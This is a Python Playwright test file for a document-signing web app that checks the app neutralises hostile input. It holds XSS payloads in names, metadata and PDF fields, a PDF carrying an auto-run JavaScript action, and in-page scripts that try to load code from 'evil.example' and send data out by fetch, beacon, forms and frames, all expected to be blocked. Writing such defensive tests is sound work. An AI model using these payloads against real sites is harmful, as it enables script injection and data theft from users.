"""What somebody tries who means harm, as far as only a browser shows it. The whole list is ``docs/attacks.md``."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit
from uuid import uuid4

import pikepdf
import pytest
from playwright.sync_api import Dialog, FilePayload, Page, expect

from tests.fetch.sites import Site, running_site
from tests.harness.commands import signroom
from tests.harness.server import Server, ok
from tests.harness.tenants import new_tenant
from tests.journeys.conftest import Watched
from tests.journeys.test_signing import choose_demo_key
from tests.vectors import hard_pdfs

MARKUP = "<img src=x onerror=alert(1)>"
METADATA = {"documentMetadata": {"note": MARKUP}, "callbackArgument": MARKUP}


@pytest.fixture
def site() -> Iterator[Site]:
    with running_site("127.0.0.1") as site:
        yield site


def hostile_pdf() -> bytes:
    """Markup in what it says and in what it says about itself, and a script for readers that run such things."""
    target = io.BytesIO()
    plain = hard_pdfs.make("plain").replace(b"the parties agree.", b"<b onclick=a()>.")
    with pikepdf.open(io.BytesIO(plain)) as pdf:
        for key in ("/Title", "/Author", "/Subject"):
            pdf.docinfo[key] = MARKUP
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.Root.OpenAction = script
        pdf.save(target)
    return target.getvalue()


def opened_by_a_hostile_application(server: Server) -> str:
    """The link of a session whose application, brand and metadata hold markup."""
    tenant = new_tenant(server)
    ok(tenant.put("branding", {"name": f"Brand {MARKUP}"}))
    name = f"{MARKUP} {uuid4().hex[:8]}"
    signroom(server, "applications", "create", name, "--subscription", tenant.name)
    key = signroom(server, "keys", "create", "--application", name, "--role", "Worker")
    body = {"returnUrl": f"{server.app_url}/?x=%3Cscript%3E", **METADATA}
    answer = server.api.post("/api/signature-sessions", json=body, headers={"X-Api-Key": key})
    link: str = ok(answer)["redirectUrl"]
    return link


def test_markup_is_text_wherever_it_comes_from(sqlite_server: Server, window: Watched) -> None:
    page = window.page
    dialogs: list[str] = []

    def answer(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", answer)
    page.goto(opened_by_a_hostile_application(sqlite_server))
    expect(page.locator(".brand", has_text=f"Brand {MARKUP}")).to_be_visible()
    files: list[FilePayload] = [
        {"name": f"{MARKUP}.pdf", "mimeType": "application/pdf", "buffer": hostile_pdf()},
        {"name": f"{MARKUP}.svg.pdf", "mimeType": "image/svg+xml", "buffer": b"<svg onload='alert(1)'/>"},
    ]
    page.get_by_label("Add files").set_input_files(files)
    row = page.get_by_role("listitem").filter(has_text=f"{MARKUP}.pdf")
    expect(row).to_contain_text("1 page")
    refused = page.get_by_role("listitem").filter(has_text=f"{MARKUP}.svg.pdf")
    expect(refused.get_by_role("alert")).to_be_visible()
    refused.get_by_role("button", name=f"Dismiss {MARKUP}.svg.pdf").click()
    page.get_by_role("button", name="Continue").click()
    page.get_by_text("Text of page 1").click()
    expect(page.get_by_text("<b onclick=a()>.")).to_be_visible()
    _require_no_markup(page)
    page.get_by_role("button", name="Continue to signing").click()
    choose_demo_key(page, MARKUP)
    expect(page.get_by_text(f"{MARKUP} (DEMO)", exact=True)).to_be_visible()
    page.locator(".panel").get_by_text("Details").click()
    expect(page.get_by_text(f"CN={MARKUP} (DEMO)", exact=True)).to_be_visible()
    page.get_by_role("button", name="Sign 1 document").click()
    page.get_by_role("button", name="Stay here").click()

    expect(page.get_by_role("link", name=f"Download {MARKUP}.pdf")).to_be_visible()
    expect(page.get_by_role("link", name=f"Return to {MARKUP}")).to_be_visible()
    _require_no_markup(page)
    assert dialogs == []


def _require_no_markup(page: Page) -> None:
    expect(page.locator("[onerror], [onclick], [onload], img[src=x], #page script, #page svg[onload]")).to_have_count(0)


INSIDE = """async (elsewhere) => {
  const tried = {
    markup: () => { document.body.innerHTML += '<img src=x>'; },
    document: () => new DOMParser().parseFromString('<script>1</' + 'script>', 'text/html'),
    policy: () => trustedTypes.createPolicy('other', { createScriptURL: (url) => url }),
    text: () => { document.createElement('script').text = 'document.title = "run"'; },
    script: () => { document.createElement('script').src = 'https://evil.example/x.js'; },
    worker: () => new Worker('/sign/assets/x.js'),
    module: () => import('data:text/javascript,0'),
    fetch: () => fetch(elsewhere),
    worker_of_service: () => navigator.serviceWorker.register('/sign/api/original/x'),
  };
  const passed = [];
  for (const [name, attempt] of Object.entries(tried)) {
    try {
      await attempt();
      passed.push(name);
    } catch {}
  }
  return passed;
}"""


def test_a_script_that_got_into_the_page_would_find_every_door_shut(
    sqlite_server: Server, window: Watched, site: Site
) -> None:
    """Trusted Types and the policy, as if there were a hole: none of these ways to run more or to send away is open."""
    page = window.page
    page.goto(sqlite_server.open_session()["redirectUrl"])
    expect(page.get_by_role("heading", name="Your documents")).to_be_visible()

    assert page.evaluate(INSIDE, f"{site.url}/collect") == []
    assert site.seen == []
    assert window.complaints, "the browser says what it has refused"
    window.complaints.clear()


def test_a_frame_a_form_and_a_picture_send_nothing_away(sqlite_server: Server, window: Watched, site: Site) -> None:
    page = window.page
    page.goto(sqlite_server.open_session()["redirectUrl"])
    expect(page.get_by_role("heading", name="Your documents")).to_be_visible()
    page.evaluate(
        """async (url) => {
          for (const [tag, attribute] of [['img', 'src'], ['iframe', 'src'], ['link', 'href'], ['base', 'href']]) {
            const made = Object.assign(document.createElement(tag), { [attribute]: url });
            if (tag === 'link') made.rel = 'stylesheet';
            document.body.append(made);
          }
          const form = Object.assign(document.createElement('form'), { action: url, method: 'post' });
          document.body.append(form);
          form.submit();
          navigator.sendBeacon(url, 'x');
          await new Promise((resolve) => setTimeout(resolve, 500));
        }""",
        f"{site.url}/collect",
    )

    assert site.seen == []
    assert urlsplit(page.url).path.startswith("/sign/")
    assert page.evaluate("document.baseURI") == page.url
    window.complaints.clear()


def test_who_opens_the_page_in_a_window_has_no_hold_of_it(sqlite_server: Server, window: Watched, site: Site) -> None:
    site.paths["/outside"] = lambda exchange: exchange.answer(b"<title>Outside</title>", "Content-Type: text/html")
    site.paths["/favicon.ico"] = lambda exchange: exchange.answer(b"")
    outside = window.page
    outside.goto(f"{site.url}/outside")
    link = sqlite_server.open_session()["redirectUrl"]
    with window.context.expect_page() as opened:
        outside.evaluate("(link) => { globalThis.held = open(link); }", link)
    inside = opened.value
    expect(inside.get_by_role("heading", name="Your documents")).to_be_visible()

    assert inside.evaluate("opener") is None
    assert outside.evaluate("held.closed") is True


def test_an_address_of_the_api_shows_a_browser_nothing(sqlite_server: Server, window: Watched, tmp_path: Path) -> None:
    """A stolen address of a document, a preview or the progress: without the header it is a refusal, and no page."""
    file = tmp_path / "contract.pdf"
    file.write_bytes(hard_pdfs.make("plain"))
    page = window.page
    page.goto(sqlite_server.open_session()["redirectUrl"])
    page.get_by_label("Add files").set_input_files(file)
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("img", name="Page 1 of 1 of contract.pdf")).to_be_visible()
    addresses = {url for url, _ in window.requests if "/sign/api/" in url and not url.endswith(("renew", "upload"))}
    assert any("/preview/" in url for url in addresses)

    for address in addresses:
        page.goto(address)
        expect(page.locator("body")).to_contain_text("SignatureSessionTokenRequired")
